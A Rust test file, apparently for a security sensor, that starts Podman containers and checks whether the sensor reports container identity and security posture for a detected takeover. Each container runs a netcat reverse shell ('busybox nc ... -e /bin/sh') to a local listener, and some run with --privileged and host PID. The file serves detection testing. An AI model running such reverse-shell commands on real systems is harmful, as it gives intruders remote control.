//! Takeovers in containers of Podman: the finding names the container and says how it was started.

use std::{cell::RefCell, fs};

use anyhow::{Context, Result, ensure};
use sensor_tests::{
    deadline::wait_for,
    finding::Finding,
    lab::{Lab, REVERSE},
    peer::{Listener, Peer, V4},
    suite::Case,
    tools,
};
use serde_json::{Value, json};

use crate::places::image;

/// What every container here is run with. Limits of its own, since not everybody may raise those that Podman gives by default.
const RUN: &str = "run --detach --pull=never --network=host --ipc=host --log-driver=none --ulimit=nofile=1024:1024 \
    --ulimit=nproc=16384:16384";
/// As containers of administrators are run.
const TRUSTED: &[&str] = &[
    "--privileged",
    "--pid=host",
    "--read-only",
    "--security-opt=no-new-privileges",
];

/// Where containers and images are kept.
#[derive(Clone, Copy)]
enum Store {
    /// Where root has them.
    Default,
    /// In the case's directory.
    Own,
}

/// Podman with an image of the case's own. Removes what it made.
struct Podman<'a> {
    lab: &'a Lab<'a>,
    options: Vec<String>,
    image: String,
    containers: RefCell<Vec<String>>,
}

impl<'a> Podman<'a> {
    fn new(lab: &'a Lab<'a>, store: Store) -> Result<Self> {
        // runc, which manages control groups of any version; files, which need no systemd.
        let mut options: Vec<String> = ["--runtime=runc", "--cgroup-manager=cgroupfs", "--events-backend=none"]
            .map(String::from)
            .into();
        if matches!(store, Store::Own) {
            let place = |name: &str| lab.path(name).display().to_string();
            options.extend([
                format!("--root={}", place("store")),
                format!("--runroot={}", place("run")),
                format!("--tmpdir={}", place("tmp")),
                "--storage-driver=vfs".into(),
            ]);
        }
        let podman = Self {
            lab,
            options,
            image: format!("localhost/sensor-test-{}:1", std::process::id()),
            containers: RefCell::default(),
        };
        let tree = image(lab)?;
        lab.bash_to_end("tar -C $TREE -cf image.tar .", &[("TREE", &tree.to_string_lossy())])?;
        podman.call(&["import", "image.tar", &podman.image])?;
        Ok(podman)
    }

    /// What it prints.
    fn call(&self, arguments: &[&str]) -> Result<String> {
        let said = self.lab.path("said");
        let mut command = self.lab.command(tools::find("podman")?)?;
        command
            .args(&self.options)
            .args(arguments)
            .stdout(fs::File::create(&said)?);
        let mut child = self.lab.spawn(&mut command)?;
        let status = wait_for("the end of podman", || Ok(child.try_wait()?))?;
        ensure!(status.success(), "podman {} ended with {status}", arguments.join(" "));
        Ok(fs::read_to_string(&said)?.trim().to_owned())
    }

    /// Starts a container; gives its id.
    fn run(&self, name: &str, options: &[&str], program: &[&str]) -> Result<String> {
        let own: Vec<&str> = RUN.split_whitespace().chain(["--name", name]).collect();
        self.containers.borrow_mut().push(name.to_owned());
        self.call(&[&own, options, &[self.image.as_str()], program].concat())
    }
}

impl Drop for Podman<'_> {
    fn drop(&mut self) {
        let containers = self.containers.borrow();
        let names = containers.iter().map(String::as_str);
        let remove: Vec<&str> = ["rm", "--force", "--time=0"].into_iter().chain(names).collect();
        for arguments in [&remove[..], &["rmi", "--force", &self.image]] {
            if let Err(error) = self.call(arguments) {
                eprintln!("{error:#}");
            }
        }
    }
}

/// A container whose first process connects a shell to the peer.
struct Taken<'a> {
    podman: Podman<'a>,
    name: String,
    id: String,
    peer: Peer,
}

impl<'a> Taken<'a> {
    fn new(lab: &'a Lab<'a>, store: Store, options: &[&str]) -> Result<Self> {
        let listener = Listener::tcp(V4)?;
        let podman = Podman::new(lab, store)?;
        let port = listener.port()?.to_string();
        let name = format!("sensor-test-{port}");
        let attack = ["/bin/busybox", "nc", "127.0.0.1", &port, "-e", "/bin/sh"];
        let id = podman.run(&name, options, &attack)?;
        Ok(Self {
            podman,
            name,
            id,
            peer: listener.accept()?,
        })
    }

    /// All that a finding says of the container.
    fn container(&self) -> Value {
        json!({ "runtime": "podman", "id": self.id, "name": self.name, "image": self.podman.image })
    }
}

/// Demands of a finding's container what `expected` says of it.
fn contained(finding: &Finding, expected: &Value) -> Result<()> {
    let container = finding.property("container");
    ensure!(
        container == Some(expected),
        "the container is {container:?} instead of {expected}: {finding}"
    );
    Ok(())
}

/// The posture of process `pid` by what /proc says of it.
fn posture(pid: u32, writable_root: bool) -> Result<Value> {
    let proc =
        |name: &str| fs::read_to_string(format!("/proc/{pid}/{name}")).with_context(|| format!("{name} of {pid}"));
    let status = proc("status")?;
    let field = |name: &str| {
        let line = status.lines().find_map(|line| line.strip_prefix(name));
        line.map(str::trim).context("no such field")
    };
    let capabilities = u64::from_str_radix(field("CapEff:")?, 16)?;
    let last: u32 = fs::read_to_string("/proc/sys/kernel/cap_last_cap")?.trim().parse()?;
    let namespace = |who: &str, name: &str| fs::read_link(format!("/proc/{who}/ns/{name}")).ok();
    let host = |name: &str| {
        // Not everybody may look at the first process. This one is where it is, but numbers of these two are not fixed, so
        // that the sensor can't tell.
        let own = || namespace("self", name).filter(|_| !["net", "mnt"].contains(&name));
        namespace("1", name).or_else(own)
    };
    let shared: Vec<&str> = ["net", "pid", "mnt", "ipc", "uts", "user", "cgroup"]
        .into_iter()
        .filter(|name| host(name).is_some_and(|host| namespace(&pid.to_string(), name) == Some(host)))
        .collect();
    let seccomp = ["disabled", "strict", "filter"].get(field("Seccomp:")?.parse::<usize>()?);
    let mut posture = json!({
        "capabilities": capabilities.count_ones(),
        "privileged": capabilities == u64::MAX >> (63 - last) && shared.contains(&"user"),
        "seccomp": seccomp,
        "noNewPrivs": field("NoNewPrivs:")? == "1",
        "hostNamespaces": shared,
        "writableRoot": writable_root,
    });
    // Not every kernel has a security module that labels.
    let label = proc("attr/current").unwrap_or_default();
    let label = label.trim_matches(['\0', '\n']);
    if !label.is_empty() {
        posture["securityLabel"] = label.into();
    }
    Ok(posture)
}

/// A takeover in a container that was started with `options`: named by the finding, with the posture that /proc says, and of that
/// what `expected` says.
fn takeover(
    lab: &Lab<'_>,
    store: Store,
    options: &[&str],
    writable_root: bool,
    expected: &[(&str, Value)],
) -> Result<()> {
    let mut taken = Taken::new(lab, store, options)?;
    let peer = &mut taken.peer;
    peer.id()?;
    let first = lab.finding(peer.ends(), REVERSE)?;
    if matches!(store, Store::Default) {
        // In time for exceptions by name and image.
        contained(&first, &taken.container())?;
    }
    let finding = lab.enriched(&first)?;
    contained(&finding, &taken.container())?;
    let shell = taken
        .podman
        .call(&["inspect", "--format={{.State.Pid}}", &taken.name])?
        .parse()?;
    let pid = finding.processes()?.first().map(|process| process.pid);
    ensure!(pid == Some(shell), "the shell is {pid:?} instead of {shell}: {finding}");
    let mut posture_found = finding.property("posture").cloned().context("no posture")?;
    let names = posture_found["capabilities"].take();
    let names = names.as_array().context("no capabilities")?;
    posture_found["capabilities"] = names.len().into();
    let posture = posture(shell, writable_root)?;
    ensure!(posture_found == posture, "the posture is not {posture}: {finding}");
    for (name, value) in expected {
        let found = match *name {
            // Whether it has one that no container has unless somebody gave it.
            "admin" => names.contains(&json!("CAP_SYS_ADMIN")).into(),
            "hostPid" => posture["hostNamespaces"]
                .as_array()
                .is_some_and(|all| all.contains(&json!("pid")))
                .into(),
            name => posture[name].clone(),
        };
        ensure!(found == *value, "{name} is {found} instead of {value}: {finding}");
    }
    taken.peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

fn plain(lab: &Lab<'_>) -> Result<()> {
    let expected = [
        ("admin", json!(false)),
        ("hostPid", json!(false)),
        ("seccomp", json!("filter")),
        ("noNewPrivs", json!(false)),
        ("privileged", json!(false)),
    ];
    takeover(lab, Store::Default, &[], true, &expected)
}

fn trusted(lab: &Lab<'_>) -> Result<()> {
    let expected = [
        ("admin", json!(true)),
        ("hostPid", json!(true)),
        ("seccomp", json!("disabled")),
        ("noNewPrivs", json!(true)),
    ];
    takeover(lab, Store::Own, TRUSTED, false, &expected)
}

/// Over before anybody could look: what the kernel recorded names the container.
fn short(lab: &Lab<'_>) -> Result<()> {
    let mut taken = Taken::new(lab, Store::Default, &[])?;
    taken.peer.send("id; exit\n")?;
    taken.peer.read_until("uid=")?;
    let finding = lab.finding(taken.peer.ends(), REVERSE)?;
    contained(&finding, &taken.container())?;
    contained(&lab.ended(&finding)?, &taken.container())
}

pub fn cases() -> Vec<Case> {
    const TOOLS: &[&str] = &["podman", "runc", "busybox", "tar"];
    vec![
        Case::new("containers::podman", TOOLS, plain),
        Case::new(
            "containers::podman_with_a_store_elsewhere_and_all_rights",
            TOOLS,
            trusted,
        ),
        Case::new("containers::podman_shell_of_a_short_life", TOOLS, short),
    ]
}
